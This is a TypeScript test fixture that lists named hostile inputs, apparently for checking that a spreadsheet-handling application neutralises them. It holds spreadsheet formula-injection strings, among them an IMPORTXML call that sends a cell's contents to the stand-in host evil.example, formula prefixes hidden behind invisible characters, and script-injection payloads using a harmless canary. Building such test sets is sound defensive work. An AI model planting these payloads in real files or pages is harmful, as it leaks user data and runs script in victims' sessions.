/** Hostile texts by name, in groups: each group goes through all doors in one workbook of its own. */

type Payloads = Readonly<Record<string, string>>;

export const payloadGroups: readonly (readonly [group: string, payloads: Payloads])[] = [
  [
    'what begins as a formula',
    {
      'a link': '=HYPERLINK("https://evil.example/","x")',
      'a request to another machine': '=IMPORTXML("https://evil.example/?"&A1,"//a")',
      plus: '+1+SUM(1,1)',
      minus: '-1+SUM(1,1)',
      at: '@SUM(1,1)',
    },
  ],
  [
    'a formula behind what is not seen',
    {
      'a tab before it': '\t=1+1 after a tab',
      'a line break before it': '\r\n=1+1 after a line break',
      'an apostrophe before it': "'=1+1 after an apostrophe",
      'NUL before it': '\u0000=1+1 after NUL',
      'no width before it': '\u200b=1+1 after no width',
    },
  ],
  [
    'markup, code and what is hard to draw',
    {
      'an image that fails': '<img src=x onerror="canary=1">',
      'the end of the script': '</script><script>canary=1</script>',
      'an address that runs': 'javascript:canary=1',
      templates: '{{canary=1}}${canary=1}<?= canary ?>',
      'turned around, emoji, half of one and 5,000 signs': `\u202e\u{1f417} \ud83d ${'=1+1 '.repeat(1000)}`,
    },
  ],
];
